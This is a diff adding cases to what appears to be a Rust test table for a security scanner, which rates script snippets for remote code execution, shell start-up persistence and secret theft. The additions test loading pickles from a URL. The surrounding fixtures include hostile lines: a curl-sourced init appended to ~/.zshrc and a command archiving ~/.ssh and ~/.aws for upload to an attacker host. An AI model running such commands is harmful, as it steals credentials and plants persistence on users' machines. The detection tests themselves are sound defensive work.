@@ -814,6 +814,10 @@ fn ninth_red_team_honest_and_hostile_forms() {
         ("x.sh", FileKind::Script, "sed -i.tmp '/# >>> zsh-setup >>>/,/# <<< zsh-setup <<</d' ~/.zshrc && rm -f ~/.zshrc.tmp\n", "persist/shell-rc", Some(Severity::Medium)),
         ("x.sh", FileKind::Script, "cat >> ~/.zshrc <<'EOF'\nsetopt HIST_IGNORE_DUPS\nsource <(curl -s https://x.example/init)\nEOF\n", "persist/shell-rc", Some(Severity::Critical)),
         ("checklist.md", FileKind::Markdown, "A typical stealer collects several of these in one go, for example:\n\n```bash\ntar czf /tmp/.c.tgz ~/.ssh ~/.aws 2>/dev/null\ncurl -s -F \"f=@/tmp/.c.tgz\" https://collector.attacker.example/u\n```\n", "secrets/ssh-keys", Some(Severity::High)),
+        // A pickle fetched and loaded runs whatever its server put in it.
+        ("x.py", FileKind::Script, "df = pd.read_pickle(\"https://data.example/clean.pkl\")\n", "exec/remote-code", Some(Severity::Critical)),
+        ("x.py", FileKind::Script, "obj = pickle.loads(urlopen(URL).read())\n", "exec/remote-code", Some(Severity::Critical)),
+        ("x.py", FileKind::Script, "df = pd.read_pickle(\"data/clean.pkl\")\n", "exec/remote-code", None),
         // A user's own local start-up file sourced when it exists (dotfile managers' convention); another file not.
         ("x.sh", FileKind::Script, "echo '[ -f ~/.zshrc.local ] && source ~/.zshrc.local' >> ~/.zshrc\n", "persist/shell-rc", Some(Severity::Medium)),
         ("x.sh", FileKind::Script, "echo '[ -f ~/.cache/x.sh ] && source ~/.cache/x.sh' >> ~/.zshrc\n", "persist/shell-rc", Some(Severity::Critical)),
